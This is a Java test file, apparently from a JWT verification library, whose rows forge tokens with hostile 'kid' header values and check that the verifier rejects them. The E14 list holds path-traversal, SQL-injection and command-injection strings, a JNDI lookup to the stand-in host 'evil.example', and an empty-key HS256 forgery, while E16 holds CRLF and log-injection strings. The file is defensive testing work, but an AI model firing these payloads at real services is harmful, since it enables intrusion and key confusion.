package io.tokenguard.attacks;

import static io.tokenguard.attacks.AttackRow.row;
import static io.tokenguard.attacks.Expectation.invalidToken;
import static io.tokenguard.attacks.Expectation.pass;

import io.tokenguard.testkit.TestAlgorithm;
import io.tokenguard.testkit.TestJson;
import io.tokenguard.testkit.TestKey;
import io.tokenguard.testkit.TokenBuilder;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/** Stage E: how a token names its key. */
final class KeyNameRows {
    private static final Expectation UNKNOWN = invalidToken("KEY_UNKNOWN");

    private KeyNameRows() {}

    static List<AttackRow> rows() {
        return List.of(e14(), e15(), e16(), e25(), e26());
    }

    private static AttackRow e14() {
        List<String> names = List.of(
                "../../../../dev/null",
                "/dev/null",
                "..\\..\\nul",
                "file:///dev/null",
                "' UNION SELECT 'x",
                "' OR '1'='1",
                "\"; DROP TABLE keys;--",
                "|sleep 10",
                "`sleep 10`",
                "$(sleep 10)",
                "${jndi:ldap://evil.example/x}",
                "%24%7Bjndi%3A%7D",
                "*",
                "?",
                "[a-z]*",
                ".*",
                "{\"kty\":\"oct\",\"k\":\"\"}",
                "https://evil.example/jwks.json",
                "<script>",
                "null",
                "0",
                "undefined");
        return row(
                        "E14",
                        "The name of a key is opaque: it is looked up and does nothing",
                        "CWE-22, CWE-89, CWE-78",
                        UNKNOWN)
                .tokenWithEach(
                        "",
                        names,
                        (bench, name) -> bench.token().header("kid", name).sign())
                .tokenOfEach(
                        "other case",
                        (bench, algorithm) -> bench.token(algorithm)
                                .header("kid", bench.key(algorithm).kid().toUpperCase(Locale.ROOT))
                                .sign())
                .tokenOfEach(
                        "trailing space",
                        (bench, algorithm) -> bench.token(algorithm)
                                .header("kid", bench.key(algorithm).kid() + " ")
                                .sign())
                .token(
                        "letter of another script",
                        bench -> bench.token()
                                .header("kid", bench.issuer().currentKey().kid().replace('i', '\u0456'))
                                .sign())
                .expecting(invalidToken("ALGORITHM_NOT_ALLOWED"))
                .token(
                        "empty file as the secret",
                        bench -> bench.token()
                                .header("kid", "../../../../dev/null")
                                .signWith(new byte[0], "HS256"))
                .build();
    }

    private static AttackRow e15() {
        return row(
                        "E15",
                        "The name of a key is a text of 1 to 256 characters",
                        "RFC 7515 §4.1.4",
                        invalidToken("HEADER_REJECTED"))
                .token("number", bench -> bench.token().header("kid", 1).sign())
                .token("null", bench -> bench.token().header("kid", null).sign())
                .token("true", bench -> bench.token().header("kid", true).sign())
                .token(
                        "list",
                        bench -> bench.token()
                                .header(
                                        "kid",
                                        List.of(bench.issuer().currentKey().kid()))
                                .sign())
                .token("object", bench -> bench.token().header("kid", Map.of()).sign())
                .token("empty", bench -> bench.token().header("kid", "").sign())
                .token(
                        "257 characters",
                        bench -> bench.token().header("kid", "x".repeat(257)).sign())
                .token(
                        "2000 characters",
                        bench -> bench.token().header("kid", "x".repeat(2_000)).sign())
                .expecting(invalidToken("TOKEN_TOO_LARGE"))
                .token(
                        "a million characters",
                        bench -> bench.token()
                                .header("kid", "x".repeat(1_000_000))
                                .sign())
                .expecting(UNKNOWN)
                .token(
                        "256 characters",
                        bench -> bench.token().header("kid", "x".repeat(256)).sign())
                .build();
    }

    private static AttackRow e16() {
        List<String> names = List.of(
                "k\r\nINJECTED",
                "k\nSet-Cookie: a=b",
                "\u001b[2J",
                "k\u0000",
                "\u202ek",
                "k\u2028k",
                "\ud83d\ude00",
                "\u0085",
                "\u007f");
        return row("E16", "Control characters in the name of a key reach nobody raw", "CWE-117", UNKNOWN)
                .tokenWithEach(
                        "",
                        names,
                        (bench, name) -> bench.token().header("kid", name).sign())
                .tokenWithEach(
                        "after the true name,",
                        names,
                        (bench, name) -> bench.token()
                                .header("kid", bench.issuer().currentKey().kid() + name)
                                .sign())
                .build();
    }

    private static AttackRow e25() {
        List<TestAlgorithm> quick = TestAlgorithm.defaults().stream()
                .filter(algorithm -> algorithm != TestAlgorithm.ED25519)
                .toList();
        return row(
                        "E25",
                        "Where a token names no key and more than one fits, none is tried",
                        "RFC 7515 §4.1.4; one verification for each token",
                        invalidToken("KEY_AMBIGUOUS"))
                .withOwnIssuer()
                .tokenOfEach("two keys", quick, (bench, algorithm) -> {
                    bench.issuer().publish(bench.attackersKey(algorithm));
                    return bench.token(algorithm).withoutHeader("kid").sign();
                })
                .token("labelled and unlabelled", bench -> {
                    TestKey other = bench.attackersKey(TestAlgorithm.RS256).withKid("unlabelled");
                    bench.issuer().publishJwk(other.publicJwkWithoutAlg());
                    return bench.token(TestAlgorithm.PS512).withoutHeader("kid").sign();
                })
                .token(
                        "thumbprint of no key",
                        bench -> withTwoCertified(bench)
                                .header("x5t#S256", "none")
                                .sign())
                .token(
                        "thumbprint that is no text",
                        bench -> withTwoCertified(bench)
                                .header("x5t#S256", List.of("own"))
                                .sign())
                .expecting(invalidToken("SIGNATURE_INVALID"))
                .token(
                        "thumbprint of the other key",
                        bench -> withTwoCertified(bench)
                                .header("x5t#S256", "other")
                                .sign())
                .token(
                        "thumbprints of both",
                        bench -> withTwoCertified(bench)
                                .header("x5t#S256", "other")
                                .header("x5t", "own")
                                .sign())
                .expecting(pass())
                .token(
                        "thumbprint of its key",
                        bench -> withTwoCertified(bench)
                                .header("x5t#S256", "own")
                                .sign())
                .build();
    }

    /** A token without kid; the issuer has two keys for it, {@code own} and {@code other} by thumbprint. */
    private static TokenBuilder withTwoCertified(AttackBench bench) {
        bench.issuer().withdraw(bench.key(TestAlgorithm.ES256));
        certify(bench, bench.key(TestAlgorithm.ES256), "own");
        certify(bench, bench.attackersKey(TestAlgorithm.ES256), "other");
        return bench.token(TestAlgorithm.ES256).withoutHeader("kid");
    }

    private static void certify(AttackBench bench, TestKey key, String thumbprint) {
        Map<String, Object> members = key.publicJwkMembers();
        members.put("x5t#S256", thumbprint);
        bench.issuer().publishJwk(TestJson.write(members));
    }

    private static AttackRow e26() {
        return row("E26", "Where a token names no key and one fits, it is used", "RFC 7515 §4.1.4", pass())
                .tokenOfEach(
                        "one key",
                        (bench, algorithm) ->
                                bench.token(algorithm).withoutHeader("kid").sign())
                .expecting(invalidToken("SIGNATURE_INVALID"))
                .tokenOfEach(
                        "made by another key",
                        (bench, algorithm) -> bench.issuer()
                                .token()
                                .key(bench.attackersKey(algorithm))
                                .algorithm(algorithm)
                                .withoutHeader("kid")
                                .sign())
                .build();
    }
}
